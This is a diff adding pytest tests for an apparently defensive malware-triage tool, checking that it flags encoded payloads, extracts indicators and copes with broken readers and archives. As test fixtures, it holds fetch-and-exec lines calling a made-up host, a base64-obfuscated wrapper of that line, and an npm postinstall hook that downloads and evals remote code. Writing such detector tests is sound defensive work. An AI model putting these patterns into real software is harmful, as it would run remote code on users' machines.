@@ -1,0 +1,92 @@
+"""One examination from end to end: what comes out, and what a broken reader costs."""
+
+import base64
+import io
+import zipfile
+from collections.abc import Iterator
+
+import pytest
+
+from vedette.core.nouns import ArtefactKind
+from vedette.core.verdicts import Verdict
+from vedette.triage import facts as readers
+from vedette.triage.allowance import Allowance, Bounds
+from vedette.triage.examination import Examination
+from vedette.triage.examine import Extras, examine, examine_folder
+from vedette.triage.fact import Fact
+from vedette.triage.sample import Sample
+
+HOST = "stage.zzq-made-up-by-a-test.top"
+FETCH = f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/a').read())\n"
+HIDDEN = f"import base64\nexec(base64.b64decode('{base64.b64encode(FETCH.encode()).decode()}'))\n"
+
+
+def looked_at(name: str, text: str | bytes, bounds: Bounds | None = None) -> Examination:
+    data = text.encode() if isinstance(text, str) else text
+    return examine(name, data, Extras(), Allowance(bounds or Bounds()))
+
+
+def test_what_lay_under_an_encoding_is_kept_beside_what_it_came_from() -> None:
+    made = looked_at("a.py", HIDDEN)
+    assert made.judgement.verdict is Verdict.MALICIOUS
+    (layer,) = [one for one in made.layers if one.after == FETCH]
+    assert (layer.name, layer.parent, layer.steps) == ("a.py~1", "a.py", ("base64",))
+    assert "b64decode" in layer.before
+    assert {one.name for one in made.inside} >= {"a.py~1"}
+    assert [one.kind for one in made.inside if one.name == "a.py~1"] == [ArtefactKind.TEXT]
+
+
+def test_what_to_look_for_is_named_and_so_is_the_thing_itself() -> None:
+    made = looked_at("a.py", HIDDEN)
+    found = {(one.kind.value, one.value) for one in made.indicators}
+    assert ("url", f"http://{HOST}/a") in found
+    assert ("hash", made.artefact.digest.removeprefix("sha256:")) in found
+    assert len([one for one in made.indicators if one.kind.value == "hash"]) == 1, "a layer is no file"
+
+
+def test_nothing_speaks_against_an_ordinary_script_and_nothing_is_shown_of_it() -> None:
+    made = looked_at("a.py", "print('%s-%s' % ('a', 'b'))\n")
+    assert (made.judgement.verdict, made.findings, made.layers) == (Verdict.BENIGN, (), ())
+
+
+def test_the_same_thing_gives_the_same_answer() -> None:
+    assert looked_at("a.py", HIDDEN) == looked_at("a.py", HIDDEN)
+
+
+def test_a_reader_that_breaks_costs_what_it_reads_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
+    def broken(sample: Sample, _: Allowance) -> Iterator[Fact]:
+        if sample.name.endswith("b.py"):
+            raise ZeroDivisionError
+        yield from real(sample, _)
+
+    real = readers.facts
+    monkeypatch.setattr(readers, "facts", broken)
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w") as archive:
+        archive.writestr("b.py", "print(1)\n")
+        archive.writestr("c.py", FETCH)
+    made = looked_at("a.zip", held.getvalue())
+    assert [(one.what, one.why) for one in made.skipped] == [
+        ("a.zip!/b.py", "a fault in vedette: ZeroDivisionError")
+    ]
+    assert made.judgement.verdict in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
+
+
+def test_what_is_too_much_work_is_said_once_and_what_came_before_counts() -> None:
+    made = looked_at("a.py", FETCH * 2000, Bounds(fuel=2_000))
+    assert len([one for one in made.skipped if "too much work" in one.why]) >= 1
+    assert len(made.skipped) <= 3
+
+
+def test_a_folder_that_is_one_thing_is_judged_as_one() -> None:
+    files = [
+        ("package.json", b'{"name": "x-y-z-q", "version": "1.0.0", "scripts": {"postinstall": "node a.js"}}'),
+        (
+            "a.js",
+            b"require('https').get('http://" + HOST.encode() + b"/a', r => r.on('data', d => eval(d)));",
+        ),
+    ]
+    made = examine_folder("thing", files, Extras(), Allowance())
+    assert made.judgement.verdict is Verdict.MALICIOUS
+    assert "x-y-z-q" in made.judgement.kind
+    assert made.files == 3
